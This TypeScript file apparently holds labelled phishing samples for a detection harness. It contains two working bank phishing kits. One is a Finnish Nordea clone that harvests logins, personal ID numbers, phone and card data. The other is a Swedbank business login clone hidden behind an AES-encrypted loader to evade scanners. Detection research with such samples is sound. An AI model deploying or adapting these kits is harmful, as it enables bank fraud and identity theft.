import { type Entry } from '../entry.js';
import { doc, aesGcm, aesLoader, logo, cardFields, cardButton } from '../parts/yx-kit.js';
import { jsRoute, jsonRoute } from '../parts/e-bin.js';

export const entries: Entry[] = [
(() => {
  const h = 'nordea-fi.verkkopankki-tuki.com';
  const cfg = JSON.stringify({ api: '/api/n.php', brand: 'nordea', lang: 'fi', steps: ['uid', 'wait', 'hetu', 'card', 'done'], exit: 'https://www.nordea.fi/' });
  return {
    id: 'yx-nordea-fi-netbank-json-kit',
    label: 'phishing',
    kind: 'bank-credential-kit',
    url: `https://${h}/login/henkiloasiakkaat`,
    body: doc({
      lang: 'fi',
      title: 'Kirjaudu – Nordea Verkkopankki',
      css: `body{margin:0;font-family:"Nordea Sans",Arial,sans-serif;background:#f3f3f6;color:#00005e}.hdr{background:#fff;padding:16px 32px;border-bottom:1px solid #e0e0ec}.l{max-width:430px;margin:44px auto;background:#fff;border-radius:8px;padding:30px}
.tab{display:flex;gap:8px;margin-bottom:20px}.tab span{flex:1;text-align:center;padding:9px;border-radius:20px;background:#e5e5f5;font-size:14px}.tab span.on{background:#0000a0;color:#fff}input{width:100%;box-sizing:border-box;padding:12px;border:1px solid #8a8ab5;border-radius:4px;font-size:16px;margin:6px 0 14px}
button{width:100%;padding:13px;background:#0000a0;color:#fff;border:0;border-radius:24px;font-size:16px}.d{width:12px;height:12px;border-radius:50%;background:#0000a0;display:inline-block;animation:p 1s infinite alternate}@keyframes p{to{opacity:.2}}.fld{margin:4px 0}.half{display:inline-block;width:48%}`,
      body: `<div class="hdr">${logo.word('Nordea', '#0000a0', 28)}</div>
<div class="l" id="app">
 <div class="tab"><span class="on">Nordea ID</span><span>Tunnuslukusovellus</span></div>
 <div data-v="uid"><h2>Kirjaudu verkkopankkiin</h2><label for="u">Käyttäjätunnus</label><input id="u" inputmode="numeric" maxlength="8"><button data-n>Kirjaudu</button></div>
 <div data-v="wait" hidden><h2>Vahvista Nordea ID -sovelluksessa</h2><p>Avaa Nordea ID -sovellus puhelimessasi ja vahvista kirjautuminen. <span class="d"></span></p><p style="font-size:13px">Tunnistuskoodi: <b>4 8 1 9</b></p></div>
 <div data-v="hetu" hidden><h2>Turvallisuustarkistus</h2><p>Tilisi on rajoitettu epätavallisen toiminnan vuoksi. Vahvista henkilöllisyytesi.</p><label>Henkilötunnus</label><input id="hetu" placeholder="PPKKVV-XXXX"><label>Puhelinnumero</label><input id="puh"><button data-n>Jatka</button></div>
 <div data-v="card" hidden><h2>Vahvista pankkikortti</h2>${cardFields('fi', ['kn', 'vo', 'cvc', 'nimi'])}<button data-n>${cardButton('fi')}</button></div>
 <div data-v="done" hidden><h2>Kiitos!</h2><p>Rajoitus poistetaan 24 tunnin kuluessa.</p></div>
</div>
<script id="cfg" type="application/json">${cfg}</script>
<script>
(function(){var C=JSON.parse(document.getElementById('cfg').textContent),i=0,data={sid:Math.random().toString(36).slice(2)};
function show(){document.querySelectorAll('[data-v]').forEach(function(e){e.hidden=e.getAttribute('data-v')!==C.steps[i]});}
function collect(){document.querySelectorAll('[data-v="'+C.steps[i]+'"] input').forEach(function(x){data[x.id]=x.value});return fetch(C.api,{method:'POST',headers:{'Content-Type':'application/json'},body:JSON.stringify({step:C.steps[i],d:data})}).then(function(r){return r.json()});}
document.getElementById('app').addEventListener('click',function(e){if(!e.target.hasAttribute('data-n'))return;collect().then(function(){i++;show();if(C.steps[i]==='wait')setTimeout(function(){i++;show()},9000);if(C.steps[i]==='done')setTimeout(function(){location=C.exit},5000)});});
})();
</script>`,
    }),
    routes: { [`${h}/api/n.php`]: jsonRoute({ ok: true, next: 1 }) },
  } satisfies Entry;
})(),
(() => {
  const h = 'foretag-swedbank.se-login.net';
  const key = '6f1c2a9b3e7d48a1c05f92e6b4d7a3c8e1f0b2d4a6c8e0f1a3b5c7d9e1f2a4b6';
  const iv = '9a8b7c6d5e4f3a2b1c0d9e8f';
  const kit = doc({
    lang: 'sv',
    title: 'Swedbank Företag – Logga in',
    css: `body{margin:0;font-family:Arial;background:#fbf2ea}.h{background:#ee7023;padding:14px 26px}.b{max-width:460px;margin:40px auto;background:#fff;padding:26px;border-radius:6px}input{width:100%;box-sizing:border-box;padding:11px;margin:5px 0 12px;border:1px solid #b59a8a}button{background:#ee7023;color:#fff;border:0;padding:12px 26px;border-radius:3px;font-size:16px}.ch{font-size:28px;letter-spacing:6px;font-family:monospace;background:#fff3e6;padding:8px 12px;display:inline-block}`,
    body: `<div class="h">${logo.word('Swedbank', '#fff', 28)}</div><div class="b"><h2>Internetbanken Företag</h2>
<form method="post" action="/ib/fp.php"><label>Användar-ID / Personnummer</label><input name="uid"><label>Företagets organisationsnummer</label><input name="org">
<p>Starta din säkerhetsdosa, slå in PIN och sedan kontrollkoden:</p><div class="ch">48 20 71 93</div><label>Svarskod från dosan</label><input name="svar" maxlength="8"><button>Logga in</button></form>
<p style="font-size:12px;color:#8a6b5a">Vid frågor: Företagssupport 0771-22 11 22</p></div>`,
  });
  return {
    id: 'yx-swedbank-foretag-aes-kit',
    label: 'phishing',
    kind: 'encrypted-bank-kit',
    url: `https://${h}/ib/foretag/logga-in`,
    body: `<!doctype html><html lang="sv"><head><meta charset="utf-8"><title>Swedbank</title></head><body style="background:#fbf2ea">
<script src="/ib/assets/app.min.js"></script></body></html>`,
    routes: { [`${h}/ib/assets/app.min.js`]: jsRoute(`/*! app v2.4.1 */\n${aesLoader(aesGcm(kit, key, iv), key, iv)}`) },
  } satisfies Entry;
})(),
];
